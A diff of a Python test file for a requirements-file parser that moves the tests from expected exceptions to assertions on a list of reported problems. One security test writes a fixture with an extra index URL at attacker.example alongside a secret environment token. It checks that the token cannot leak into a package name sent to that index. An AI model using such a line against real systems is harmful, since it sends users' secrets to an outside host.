@@ -1,6 +1,7 @@
 """Files that users bring: requirements.txt, pyproject.toml, environment.yml; for lock files see test_lock_files.py."""
 
 import os
+import re
 import sys
 
 import pytest
@@ -14,6 +15,11 @@ def read(path, text, image=None):
     """Return the requirements in a file with this text."""
     path.write_text(text)
     return requirements.read_all([path], image)
+
+
+def wrong(*arguments):
+    """Return what is wrong with files of requirements, as people see it."""
+    return "\n".join(requirements.read_all(*arguments).wrong)
 
 
 def test_a_requirements_file(tmp_path):
@@ -96,9 +102,8 @@ def test_variables_in_paths(tmp_path, monkeypatch):
 def test_variables_in_names(tmp_path, monkeypatch, line):
     """Security 8: no variable of the person becomes the name of a package, which goes to the index of the file."""
     monkeypatch.setenv("TOKEN", "verysecret")
-    with pytest.raises(requirements.RequirementsError, match="has a variable in the name of a package") as error:
-        read(tmp_path / "a.txt", f"--extra-index-url https://attacker.example/simple\n{line}\n")
-    assert "verysecret" not in str(error.value)
+    wanted = read(tmp_path / "a.txt", f"--extra-index-url https://attacker.example/simple\n{line}\n")
+    assert "has a variable in the name of a package" in wanted.wrong[0] and "verysecret" not in wanted.wrong[0]
     kept = "x==${TOKEN}"
     assert read(tmp_path / "a.txt", f"{kept}\n").lines == [kept]
 
@@ -133,18 +138,15 @@ def test_variables_in_names(tmp_path, monkeypatch, line):
 )
 def test_unsupported_files(tmp_path, name, text, expected):
     """The error names the file, the problem and the remedy."""
-    with pytest.raises(requirements.RequirementsError) as error:
-        read(tmp_path / name, text)
-    assert expected in str(error.value)
-    assert str(tmp_path) in str(error.value)
+    (tmp_path / name).write_text(text)
+    assert expected in wrong([tmp_path / name])
+    assert str(tmp_path) in wrong([tmp_path / name])
 
 
 def test_what_is_not_a_file(tmp_path):
     """E-15: a directory is there, so the message doesn't say that it is missing."""
-    with pytest.raises(requirements.RequirementsError, match=f"^{tmp_path} is not a file$"):
-        requirements.read_all([tmp_path])
-    with pytest.raises(requirements.RequirementsError, match=f"^the file {tmp_path}/none does not exist$"):
-        requirements.read_all([tmp_path / "none"])
+    assert wrong([tmp_path]) == f"{tmp_path} is not a file"
+    assert wrong([tmp_path / "none"]) == f"the file {tmp_path}/none does not exist"
 
 
 def test_a_project(tmp_path):
@@ -175,9 +177,7 @@ def test_a_project(tmp_path):
         ("3.12", ["x"], [], f"{path}: has no extra 'x' (known: all, train-it)"),
         ("3.12", [], ["x"], f"{path}: has no dependency group 'x' (known: dev, docs)"),
     ]:
-        with pytest.raises(requirements.RequirementsError) as error:
-            requirements.read_all([path], KnownImage(image), extras, groups)
-        assert str(error.value).startswith(expected)
+        assert wrong([path], KnownImage(image), extras, groups).startswith(expected)
 
 
 def test_sources_that_only_uv_knows(tmp_path):
@@ -229,14 +229,12 @@ def test_a_conda_environment(tmp_path):
         f"{path}: the versions in the image are used: numpy 2.1 (not numpy<2), torch 2.6.0+rocm6.2",
         *named,
     ]
-    with pytest.raises(requirements.RequirementsError) as error:
-        requirements.read_all([path], KnownImage("3.10"))
-    assert str(error.value) == (
+    assert wrong([path], KnownImage("3.10")) == (
         f"{path}: asks for python=3.11, but the image has Python 3.10: choose a container with that Python (ebsif list "
         "--has 'python==3.11.*'), or change or remove that line"
     )
-    with pytest.raises(requirements.RequirementsError, match="asks for python.*but the image has Python 3.11"):
-        read(path, "dependencies: ['python>=3.9,<3.11', rich]\n", KnownImage("3.11"))
+    wanted = read(path, "dependencies: ['python>=3.9,<3.11', rich]\n", KnownImage("3.11"))
+    assert "asks for python>=3.9,<3.11, but the image has Python 3.11" in wanted.wrong[0]
     assert read(path, "dependencies: ['python>=3.10', 'numpy=*']\n", KnownImage("3.11")).lines == ["numpy"]
     # another patch release is compatible
     assert read(path, "dependencies: [python=3.11.7=h1, rich]\n", KnownImage("3.11.2")).lines == ["rich"]
@@ -360,5 +358,5 @@ SDIST = PYLOCK + '[packages.sdist]\nname = "a-1.tar.gz"\nurl = "https://x"\nhash
 def test_hostile_files(tmp_path, name, text, expected):
     """P-06: somebody else's file has no more lines than requirements, no sequences for terminals, and an end."""
     os.mkfifo(tmp_path / "fifo")
-    with pytest.raises(requirements.RequirementsError, match=expected):
-        read(tmp_path / name, text)
+    wanted = read(tmp_path / name, text)
+    assert re.search(expected, "\n".join(wanted.wrong))
